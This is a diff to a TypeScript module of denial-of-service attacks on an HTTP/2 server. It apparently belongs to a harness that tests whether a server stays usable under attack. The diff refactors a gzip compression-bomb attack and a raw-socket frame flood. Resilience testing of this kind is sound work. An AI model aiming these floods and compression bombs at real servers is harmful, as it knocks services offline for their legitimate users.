@@ -1,6 +1,6 @@
 import { connect, type Socket } from 'node:net';
 import { gzipSync } from 'node:zlib';
-import { continuation, frame, headers, preface, reset } from './raw-http2.ts';
+import { continuation, field, frame, headers, preface, reset } from './raw-http2.ts';
 
 /** Where to attack. */
 export interface AttackTarget {
@@ -41,13 +41,7 @@ const compressionBombs: Attack = (target, signal) => {
   const parts = Array.from({ length: Math.ceil(message.length / 16_384) }, (_, index) =>
     message.subarray(index * 16_384, (index + 1) * 16_384),
   );
-  // grpc-encoding: gzip, as a literal header.
-  const encoding = Buffer.concat([
-    Buffer.of(0x00, 13),
-    Buffer.from('grpc-encoding'),
-    Buffer.of(4),
-    Buffer.from('gzip'),
-  ]);
+  const encoding = field('grpc-encoding', 'gzip');
   return flood(target, signal, (round) => {
     const id = 2 * round + 1;
     const begin = headers(id, path, false);
@@ -96,7 +90,7 @@ async function flood(target: AttackTarget, signal: AbortSignal, round: (index: n
     const send = () => {
       while (!signal.aborted && socket.writable && socket.write(round(index))) {
         index += 1;
-        // Lets this process measure the good client in between.
+        // Lets this process notice what the server says.
         if (index % 20 === 0) return void setTimeout(send, 1);
       }
       index += 1;
